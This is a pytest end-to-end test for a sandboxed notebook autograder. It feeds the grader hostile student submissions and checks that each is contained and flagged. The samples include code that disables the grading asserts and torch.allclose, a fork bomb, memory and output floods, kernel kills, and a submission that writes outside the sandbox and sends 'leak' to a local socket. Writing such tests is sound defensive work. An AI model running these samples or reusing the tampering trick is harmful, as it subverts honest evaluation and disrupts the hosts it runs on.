"""End to end, in the bubblewrap sandbox: honest and hostile submissions in one batch.

Runs ``python -m grading autograde`` on a small batch of ``a01_information`` with
``--jobs 2`` in a private grading folder, then checks the scores, the flags, the
feedback, that nothing was written outside the course folders, that no process
survived and that no connection left the sandbox.  Skipped only where bubblewrap
cannot run.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from grading.demo import submission
from grading.sandbox import bwrap_works
from tests._env import IN_CI, NO_BWRAP

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not (bwrap_works() or IN_CI), reason=NO_BWRAP),
]

ROOT = Path(__file__).resolve().parents[1]
OUTSIDE = Path("/tmp/cvloss-grading-escape-marker")

WRONG_ENTROPY = '''
def entropy(p, dim=-1, reduction="mean", *, base=math.e):
    """Wrong on purpose: sums over the last dim and ignores 0 log 0."""
    return reduce_loss(-(p * torch.log(p)).sum(-1), reduction)
'''

TAMPER = (
    """
import torch
import cvloss_ref.testing

cvloss_ref.testing.assert_loss_matches = lambda *args, **kwargs: None
cvloss_ref.testing.check_loss = lambda *args, **kwargs: None
get_ipython().user_ns["assert_loss_matches"] = cvloss_ref.testing.assert_loss_matches
torch.allclose = lambda *args, **kwargs: True
torch.isclose = lambda a, b, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
get_ipython().showtraceback = lambda *args, **kwargs: None
"""
    + WRONG_ENTROPY
)

EXITS = {
    "entropy": '''
import sys

def entropy(p, dim=-1, reduction="mean", *, base=math.e):
    """Leaves instead of computing."""
    sys.exit(0)
''',
    "kl_divergence": '''
import os

def kl_divergence(p, q, dim=-1, reduction="mean", *, base=math.e):
    """Kills its own kernel."""
    os._exit(0)
''',
    "js_divergence": '''
import os, signal

def js_divergence(p, q, dim=-1, reduction="mean", *, base=math.e):
    """Kills its own kernel with a signal."""
    os.kill(os.getpid(), signal.SIGKILL)
''',
}

ABUSE = {
    "entropy": '''
def entropy(p, dim=-1, reduction="mean", *, base=math.e):
    """Never returns."""
    while True:
        pass
''',
    "kl_divergence": '''
def kl_divergence(p, q, dim=-1, reduction="mean", *, base=math.e):
    """Floods the output, then fails."""
    for _ in range(200_000):
        print("x" * 1000)
    raise RuntimeError("flooded")
''',
    "js_divergence": '''
def js_divergence(p, q, dim=-1, reduction="mean", *, base=math.e):
    """Eats memory until the limit stops it."""
    hoard = []
    while True:
        hoard.append(bytearray(256 * 1024 * 1024))
''',
    "cross_entropy_dist": '''
import os

def cross_entropy_dist(p, q, dim=-1, reduction="mean", *, base=math.e):
    """Forks until the process limit stops it; the children sleep for ten minutes."""
    children = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600 # cvloss-forkbomb-child"])
            finally:
                os._exit(0)
        children += 1
    raise RuntimeError(f"forked {children} children")
''',
}

ESCAPE = f'''
import socket

def entropy(p, dim=-1, reduction="mean", *, base=math.e):
    """Calls the reference, writes outside the sandbox and phones home."""
    for path in ["{OUTSIDE}", "{ROOT}/PWNED", "/root/PWNED"]:
        try:
            open(path, "w").write("escaped")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"leak")
    except OSError:
        pass
    import cvloss_ref
    return cvloss_ref.entropy(p, dim, reduction, base=base)
'''


def _write(folder: Path, student: str, text: str | bytes) -> None:
    target = folder / "submitted" / student / "a01_information"
    target.mkdir(parents=True)
    path = target / "information.ipynb"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("course")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    _write(folder, "honest", submission("a01_information")[1])
    _write(folder, "tamper", submission("a01_information", {"entropy": TAMPER})[1])
    _write(folder, "exits", submission("a01_information", EXITS)[1])
    escape = ESCAPE.replace("PORT", str(port))
    _write(folder, "escape", submission("a01_information", {"entropy": escape})[1])
    _write(folder, "abuse", submission("a01_information", ABUSE)[1])
    _write(folder, "corrupt", '{"cells": [')
    _write(folder, "binary", b"\x7fELF\x02\x01\x01\x00 not a notebook")
    snapshot = {
        p: p.stat().st_mtime_ns
        for p in (ROOT / "grading").rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }
    submitted = {p: p.read_bytes() for p in (folder / "submitted").rglob("*") if p.is_file()}
    env = dict(os.environ, CVLOSS_GRADING_DIR=str(folder))
    command = [sys.executable, "-m", "grading", "autograde", "a01_information", "--jobs", "2"]
    done = subprocess.run(
        [*command, "--timeout", "60", "--no-progress"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
    )
    feedback = subprocess.run(
        [sys.executable, "-m", "grading", "feedback", "a01_information"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
    )
    stop.set()
    thread.join()
    listener.close()
    results = {
        p.parent.parent.name: json.loads(p.read_text())
        for p in (folder / "autograded").glob("*/a01_information/results.json")
    }
    return {
        "run": done,
        "feedback": feedback,
        "folder": folder,
        "results": results,
        "connections": connections,
        "snapshot": snapshot,
        "submitted": submitted,
    }


def _cells(result):
    return {c["grade_id"]: c for c in result["notebooks"]["information"]["cells"]}


def test_the_batch_completes_with_a_table(graded):
    run = graded["run"]
    assert run.returncode == 0, run.stderr[-3000:]
    for student in ("honest", "tamper", "exits", "escape", "abuse", "corrupt", "binary"):
        assert student in run.stdout
    assert len(graded["results"]) == 7


def test_honest_submission_gets_full_marks(graded):
    honest = graded["results"]["honest"]
    assert honest["score"] == honest["max_score"] == 16
    assert honest["flags"] == []


def test_tampering_with_the_harness_gets_zero_on_what_it_attacked(graded):
    result = graded["results"]["tamper"]
    cells = _cells(result)
    assert all(c["points"] == 0 for g, c in cells.items() if g.startswith("test_entropy_"))
    assert result["score"] == 12  # the other three exercises are honest
    assert any("disagree" in f for f in result["flags"])


def test_exits_and_killed_kernels_cost_only_those_exercises(graded):
    result = graded["results"]["exits"]
    cells = _cells(result)
    for name in ("entropy", "kl_divergence", "js_divergence"):
        assert all(c["points"] == 0 for g, c in cells.items() if g.startswith(f"test_{name}_"))
    assert all(
        c["points"] == c["max_points"]
        for g, c in cells.items()
        if g.startswith("test_cross_entropy_dist_")
    )
    assert result["score"] == 4


def test_calling_the_reference_writing_outside_and_network_are_refused(graded):
    result = graded["results"]["escape"]
    assert result["score"] == 12
    assert any("imports cvloss_ref" in f for f in result["flags"])
    assert not OUTSIDE.exists()
    assert not (ROOT / "PWNED").exists()
    assert graded["connections"] == []


def test_infinite_loop_flood_memory_and_fork_bombs_cost_only_that_submission(graded):
    result = graded["results"]["abuse"]
    assert result["score"] == 0
    assert graded["results"]["honest"]["score"] == 16  # graded in the same batch
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert "cvloss-forkbomb-child" not in ps  # the sandbox's end killed every child


def test_corrupt_and_non_notebook_files_get_zero_with_a_reason(graded):
    for student in ("corrupt", "binary"):
        result = graded["results"][student]
        assert result["score"] == 0
        assert "not a valid notebook" in result["reason"]


def test_nothing_outside_the_course_folder_is_written_and_submissions_are_untouched(graded):
    for path, mtime in graded["snapshot"].items():
        assert path.stat().st_mtime_ns == mtime, f"{path} changed"
    for path, data in graded["submitted"].items():
        assert path.read_bytes() == data


def test_no_sandboxed_process_survives(graded):
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    folder = str(graded["folder"])
    assert "_nbrunner.py" not in ps or folder not in ps
    assert "_verifier.py" not in ps


def test_feedback_never_shows_hidden_test_code(graded):
    assert graded["feedback"].returncode == 0, graded["feedback"].stderr
    pages = list((graded["folder"] / "feedback").rglob("*.html"))
    assert len(pages) == 7
    for page in pages:
        text = page.read_text()
        assert "HIDDEN_SEED" not in text and "assert_loss_matches(" not in text
    honest = (graded["folder"] / "feedback/honest/a01_information/information.html").read_text()
    assert "16</b> of 16" in honest
    tamper = (graded["folder"] / "feedback/tamper/a01_information/information.html").read_text()
    assert "entropy does not match the reference" in tamper
